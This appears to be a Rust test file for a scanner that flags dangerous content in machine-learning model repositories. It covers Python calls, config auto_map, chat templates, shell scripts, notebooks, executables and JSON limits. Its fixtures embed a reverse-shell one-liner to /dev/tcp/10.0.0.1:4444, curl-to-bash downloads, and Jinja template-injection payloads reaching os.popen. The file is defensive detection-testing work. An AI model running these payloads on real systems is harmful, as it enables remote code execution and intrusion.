//! The other files of a model repository: Python, configs, shell scripts,
//! binaries, notebooks, LFS pointers, plain text.

use modelvet_core::{
    scan_artifact, ArtifactScan, Format, Location, ScanOptions, Severity, SliceSource,
};

fn scan(name: &str, bytes: &[u8]) -> ArtifactScan {
    scan_artifact(name, &mut SliceSource::new(bytes), &ScanOptions::default())
}

fn rules(s: &ArtifactScan) -> Vec<&str> {
    s.findings.iter().map(|f| f.rule_id.as_str()).collect()
}

const BENIGN_MODELING: &str = r#"# coding=utf-8
"""A custom model. Do not call os.system("x") here."""
import math
import torch
from torch import nn
from transformers import PreTrainedModel


class TinyModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(4, 4)
        self.note = 'eval("nothing") in a string'

    def forward(self, x):
        # exec(x) in a comment is not a call
        return self.proj(x) * math.sqrt(2)


def load_extra(path):
    model = TinyModel(None)
    model.eval()
    return torch.load(path, map_location="cpu", weights_only=True)
"#;

#[test]
fn benign_python_only_notes_custom_code() {
    let s = scan("modeling_tiny.py", BENIGN_MODELING.as_bytes());
    assert_eq!(s.format, Some(Format::Python));
    assert_eq!(rules(&s), vec!["python-custom-code"], "{:?}", s.findings);
}

#[test]
fn dangerous_python_calls_with_lines() {
    let src = "import subprocess as sp\nfrom os import system\nimport urllib.request\nimport pickle, torch\n\
               sp.run(['id'])\nsystem('id')\neval(code)\nexec(code)\n__import__('os')\n\
               pickle.loads(b)\ntorch.load('x.pt')\nurllib.request.urlopen(u)\nimport os.path\nos.popen('id')\n\
               getattr(os, 'sys' + 'tem')('id')\ngetattr(self, 'forward')(x)\n";
    let s = scan("modeling_evil.py", src.as_bytes());
    let calls: Vec<(String, u64)> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "python-dangerous-call")
        .map(|f| match &f.location {
            Location::Line { line } => (f.message.clone(), *line),
            other => panic!("{other:?}"),
        })
        .collect();
    let expect = [
        ("subprocess.run", 5),
        ("os.system", 6),
        ("eval", 7),
        ("exec", 8),
        ("__import__", 9),
        ("pickle.loads", 10),
        ("torch.load", 11),
        ("urllib.request.urlopen", 12),
        ("os.popen", 14),
        ("getattr", 15),
    ];
    assert_eq!(calls.len(), expect.len(), "{calls:?}");
    for ((msg, line), (name, want)) in calls.iter().zip(expect) {
        assert!(msg.contains(&format!("`{name}`")), "{msg} vs {name}");
        assert_eq!(*line, want, "{msg}");
    }
    let eval = s
        .findings
        .iter()
        .find(|f| f.message.contains("`eval`"))
        .unwrap();
    assert_eq!(eval.severity, Severity::High);
    assert_eq!(eval.evidence.as_deref(), Some("eval(code)"));
}

#[test]
fn f_string_fields_are_code() {
    let s = scan("m.py", b"import os\nx = f\"{os.system('id')}\"\ny = f'{{os.system}} {name!r:>10}'\nz = 'os.system(1)'\n");
    let calls: Vec<u64> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "python-dangerous-call")
        .map(|f| match f.location {
            Location::Line { line } => line,
            _ => 0,
        })
        .collect();
    assert_eq!(calls, vec![2]);
}

#[test]
fn star_imports_resolve_bare_calls() {
    let s = scan(
        "m.py",
        b"from subprocess import *\nfrom math import *\nPopen(['id'])\nsqrt(2)\n",
    );
    let calls: Vec<&str> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "python-dangerous-call")
        .map(|f| f.message.as_str())
        .collect();
    assert_eq!(calls.len(), 1, "{calls:?}");
    assert!(calls[0].contains("subprocess.Popen"));
}

#[test]
fn auto_map_needs_remote_code() {
    let config = br#"{"architectures": ["TinyModel"], "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModelForCausalLM": "modeling_tiny.TinyModel"}, "model_type": "tiny"}"#;
    let s = scan("config.json", config);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "config-remote-code")
        .expect("finding");
    assert!(
        f.message.contains("modeling_tiny.py") && f.message.contains("configuration_tiny.py"),
        "{}",
        f.message
    );
    assert_eq!(f.severity, Severity::Medium);
    assert_eq!(
        s.facts["config.auto_map"]["files"]
            .as_array()
            .unwrap()
            .len(),
        2
    );

    let tok =
        br#"{"auto_map": {"AutoTokenizer": ["other/repo--tokenization_x.XTokenizer", null]}}"#;
    let s = scan("tokenizer_config.json", tok);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "config-remote-code")
        .expect("finding");
    assert_eq!(f.severity, Severity::High);
    assert!(f.message.contains("other/repo"));

    let plain =
        br#"{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 4096}"#;
    let s = scan("config.json", plain);
    assert!(s.findings.is_empty(), "{:?}", s.findings);
}

#[test]
fn tokenizer_config_chat_templates() {
    let evil = br#"{"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#;
    let s = scan("tokenizer_config.json", evil);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "chat-template-injection")
        .expect("finding");
    assert_eq!(
        f.location,
        Location::JsonPointer {
            pointer: "/chat_template".into()
        }
    );

    let named = br#"{"chat_template": [{"name": "default", "template": "{{ messages[0]['content'] }}"}, {"name": "tool_use", "template": "{{ lipsum.__globals__ }}"}]}"#;
    let s = scan("tokenizer_config.json", named);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "chat-template-injection")
        .expect("finding");
    assert_eq!(
        f.location,
        Location::JsonPointer {
            pointer: "/chat_template/1/template".into()
        }
    );

    let benign = format!(
        r#"{{"chat_template": {}}}"#,
        serde_json::to_string(modelvet_testkit::gguf::CHATML).unwrap()
    );
    assert!(scan("tokenizer_config.json", benign.as_bytes())
        .findings
        .is_empty());

    let s = scan(
        "chat_template.jinja",
        b"{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    );
    assert!(rules(&s).contains(&"chat-template-injection"));
}

#[test]
fn json_duplicates_errors_and_limits() {
    let s = scan("config.json", br#"{"a": 1, "b": {"c": 1, "c": 2}}"#);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "json-malformed")
        .expect("dup");
    assert_eq!(
        f.location,
        Location::JsonPointer {
            pointer: "/b/c".into()
        }
    );
    assert!(rules(&scan("config.json", b"{\"a\": [1, 2}")).contains(&"json-malformed"));

    let mut opts = ScanOptions::default();
    opts.limits.repo.max_json_bytes = 8;
    let s = scan_artifact(
        "config.json",
        &mut SliceSource::new(br#"{"a": 1, "b": 2}"#),
        &opts,
    );
    assert!(s
        .errors
        .iter()
        .any(|e| e.message.contains("max_json_bytes")));
}

#[test]
fn shell_scripts() {
    let evil = "#!/bin/bash\nset -e\ncurl -fsSL https://example.invalid/x.sh | bash\necho aGk= | base64 -d | sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
    let s = scan("setup.sh", evil.as_bytes());
    assert_eq!(s.format, Some(Format::Shell));
    let lines: Vec<Location> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "shell-remote-exec")
        .map(|f| f.location.clone())
        .collect();
    assert_eq!(
        lines,
        vec![
            Location::Line { line: 3 },
            Location::Line { line: 4 },
            Location::Line { line: 5 }
        ]
    );

    let s = scan(
        "download.sh",
        b"#!/bin/sh\nwget https://example.invalid/weights.bin\n",
    );
    assert_eq!(rules(&s), vec!["shell-download"]);
    let s = scan(
        "train.sh",
        b"#!/bin/sh\n# curl | sh in a comment\npython train.py --epochs 3\n",
    );
    assert!(s.findings.is_empty(), "{:?}", s.findings);
}

#[test]
fn executables_are_always_findings() {
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.resize(64, 0);
    elf[16] = 3;
    let s = scan("pytorch_model.bin", &elf);
    assert_eq!(s.format, Some(Format::Elf));
    assert!(rules(&s).contains(&"repo-executable"));
    assert!(rules(&s).contains(&"extension-mismatch"));
    assert_eq!(
        s.facts["executable.kind"],
        "64-bit ELF shared object or PIE executable"
    );

    let mut pe = b"MZ".to_vec();
    pe.resize(0x40, 0);
    pe[0x3c] = 0x40;
    pe.extend_from_slice(b"PE\0\0");
    pe.resize(0x80, 0);
    assert!(rules(&scan("x.dll", &pe)).contains(&"repo-executable"));
    assert!(
        rules(&scan("lib.dylib", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01")).contains(&"repo-executable")
    );
}

#[test]
fn notebooks() {
    let nb = serde_json::json!({
        "nbformat": 4, "nbformat_minor": 5, "metadata": {},
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": ["# os.system('x') in markdown"]},
            {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 1,
             "source": ["import os\n", "os.system('id')\n"]},
            {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 2,
             "source": "!curl -s https://example.invalid/x | sh\n%matplotlib inline\nprint(1)"}
        ]
    });
    let s = scan("demo.ipynb", nb.to_string().as_bytes());
    assert_eq!(s.format, Some(Format::Notebook));
    assert_eq!(s.facts["notebook.code_cells"], 2);
    let call = s
        .findings
        .iter()
        .find(|f| f.rule_id == "python-dangerous-call")
        .expect("call");
    assert_eq!(
        call.location,
        Location::JsonPointer {
            pointer: "/cells/1".into()
        }
    );
    assert!(call.message.contains("line 2"));
    assert!(rules(&s).contains(&"shell-remote-exec"));

    let benign = serde_json::json!({"nbformat": 4, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "outputs": [], "source": "from transformers import pipeline\np = pipeline('text-generation')\n!pip install transformers"}]});
    let s = scan("demo.ipynb", benign.to_string().as_bytes());
    assert!(s.findings.is_empty(), "{:?}", s.findings);
}

#[test]
fn lfs_pointers() {
    let ptr = b"version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n";
    let s = scan("model.safetensors", ptr);
    assert_eq!(s.format, Some(Format::LfsPointer));
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "lfs-pointer")
        .expect("finding");
    assert!(f.message.contains("sha256:4d7a2146") && f.message.contains("12345"));
    assert_eq!(s.facts["lfs.pointer"]["size"], 12345);
}

#[test]
fn plain_text_and_json_pass() {
    assert!(scan("README.md", b"# Tiny model\n\nRun `pip install x`.\n")
        .findings
        .is_empty());
    assert!(scan("vocab.json", br#"{"a": 0, "b": 1}"#)
        .findings
        .is_empty());
    assert!(scan(
        "generation_config.json",
        br#"{"do_sample": true, "temperature": 0.6}"#
    )
    .findings
    .is_empty());
}

#[test]
fn deep_json_is_read_as_deep_as_python_and_fails_closed_beyond() {
    // 5,000 levels: CPython 3.13's json.loads reads up to 9,998 (measured),
    // serde_json stops at 128. The auto_map after the deep value is still seen.
    let deep = format!(
        r#"{{"pad": {}1{}, "auto_map": {{"AutoModel": "other/repo--modeling_x.X"}}}}"#,
        "[".repeat(5000),
        "]".repeat(5000)
    );
    let s = scan("config.json", deep.as_bytes());
    assert_eq!(rules(&s), ["config-remote-code"], "{:?}", s.findings);
    // Deeper than modelvet reads: high, not a pass.
    let n = modelvet_core::formats::json::MAX_JSON_DEPTH + 1;
    let deeper = format!("{}{}", "[".repeat(n), "]".repeat(n));
    let s = scan("config.json", deeper.as_bytes());
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "json-malformed")
        .expect("finding");
    assert_eq!(f.severity, Severity::High);
}

/// `(rule, line, message, evidence)` of the dangerous-call findings.
fn calls_of(src: &str) -> Vec<(u64, String, Severity, String)> {
    scan("modeling_x.py", src.as_bytes())
        .findings
        .iter()
        .filter(|f| f.rule_id == "python-dangerous-call")
        .map(|f| {
            let line = match f.location {
                Location::Line { line } => line,
                _ => 0,
            };
            (
                line,
                f.message.clone(),
                f.severity,
                f.evidence.clone().unwrap_or_default(),
            )
        })
        .collect()
}

#[test]
fn aliases_resolve_through_imports_assignments_and_getattr() {
    let src = "import os as o\nfrom subprocess import Popen as P\nfrom os import system as s\n\
               x = os = __import__('os')\ny = x\n\
               o.system('id')\nP(['id'])\ns('id')\ny.system('id')\ngetattr(o, 'system')('id')\n\
               f = getattr(o, 'popen')\nf('id')\nimportlib.import_module('subprocess').run(['id'])\n";
    let calls = calls_of(src);
    let names: Vec<(u64, &str)> = calls
        .iter()
        .map(|(l, m, _, _)| (*l, m.split('`').nth(1).unwrap_or_default()))
        .collect();
    assert!(names.contains(&(6, "os.system")), "{calls:#?}");
    assert!(names.contains(&(7, "subprocess.Popen")), "{calls:#?}");
    assert!(names.contains(&(8, "os.system")), "{calls:#?}");
    assert!(names.contains(&(9, "os.system")), "{calls:#?}");
    assert!(names.contains(&(10, "os.system")), "{calls:#?}");
    assert!(names.contains(&(12, "os.popen")), "{calls:#?}");
    assert!(names.contains(&(13, "subprocess.run")), "{calls:#?}");
    let (_, _, severity, evidence) = calls.iter().find(|c| c.0 == 6).unwrap();
    assert_eq!(*severity, Severity::High);
    assert_eq!(
        evidence,
        "`o.system` is `os.system` (import os as o): o.system('id')"
    );
    let (_, _, _, evidence) = calls.iter().find(|c| c.0 == 9).unwrap();
    assert!(
        evidence.starts_with("`y.system` is `os.system` (y = x; x = __import__('os'))"),
        "{evidence}"
    );
}

#[test]
fn spawn_variants_unpicklers_exec_and_network_are_found() {
    let src = "import os, pty, asyncio, marshal, dill, cloudpickle, joblib, numpy as np, socket\n\
               os.posix_spawn('/bin/sh', ['sh'], {})\nos.spawnvp(os.P_WAIT, 'sh', ['sh'])\n\
               os.execlp('sh', 'sh')\npty.spawn('sh')\nasyncio.create_subprocess_shell('id')\n\
               marshal.loads(b)\ndill.loads(b)\ncloudpickle.loads(b)\njoblib.load(p)\n\
               np.load(p, allow_pickle=True)\nexec(c)\ncompile(c, 'f', 'exec')\n\
               socket.create_connection(('h', 1))\nimport threading\n\
               threading.Thread(target=os.system, args=('id',))\n";
    let calls = calls_of(src);
    let lines: Vec<u64> = calls.iter().map(|c| c.0).collect();
    for line in 2..=14 {
        assert!(lines.contains(&line), "line {line} not flagged: {calls:#?}");
    }
    let passed = calls
        .iter()
        .find(|c| c.0 == 16)
        .expect("Thread(target=os.system)");
    assert!(passed.1.contains("passed as a value"), "{}", passed.1);
}

#[test]
fn benign_calls_are_not_flagged() {
    let src = "import os, sys, subprocess, numpy as np, torch, re\nfrom math import *\n\
               p = os.path.join('a', 'b')\nos.makedirs(p, exist_ok=True)\nos.environ.get('X')\n\
               np.load(p)\ntorch.load(p, weights_only=True)\nre.compile('x')\nsqrt(2)\n\
               print(subprocess.PIPE)\nself_eval = model.eval()\n";
    let calls = calls_of(src);
    assert!(calls.is_empty(), "{calls:#?}");
}

#[test]
fn denylisted_names_beyond_the_table_are_judged_by_the_pickle_denylist() {
    // `_posixsubprocess` and `runpy` reach processes and code without a
    // name in the call table's common spellings.
    let calls =
        calls_of("import runpy, ctypes\nrunpy.run_path('x.py')\nctypes.cdll.LoadLibrary('x.so')\n");
    let lines: Vec<u64> = calls.iter().map(|c| c.0).collect();
    assert_eq!(lines, [2, 3], "{calls:#?}");
}

#[test]
fn unparsable_python_is_reported_and_still_token_scanned() {
    // A syntax error: Python cannot import it either (medium); the token
    // scan still finds the call.
    let s = scan(
        "modeling_x.py",
        b"import os\ndef f(:\n    os.system('id')\n",
    );
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "python-unparsed")
        .expect("unparsed");
    assert_eq!(f.severity, Severity::Medium);
    assert!(s
        .findings
        .iter()
        .any(|f| f.rule_id == "python-dangerous-call"));
    // Nesting deeper than analysed: Python may import it, so high.
    let deep = format!("import os\nx = {}1\nos.system('id')\n", "1 + ".repeat(400));
    let s = scan("modeling_x.py", deep.as_bytes());
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "python-unparsed")
        .expect("unparsed");
    assert_eq!(f.severity, Severity::High);
    assert!(s
        .findings
        .iter()
        .any(|f| f.rule_id == "python-dangerous-call"));
    // Just under the limit: parsed, no unparsed finding.
    let ok = format!("x = {}1\n", "1 + ".repeat(250));
    let s = scan("modeling_x.py", ok.as_bytes());
    assert!(
        s.findings.iter().all(|f| f.rule_id != "python-unparsed"),
        "{:?}",
        s.findings
    );
}
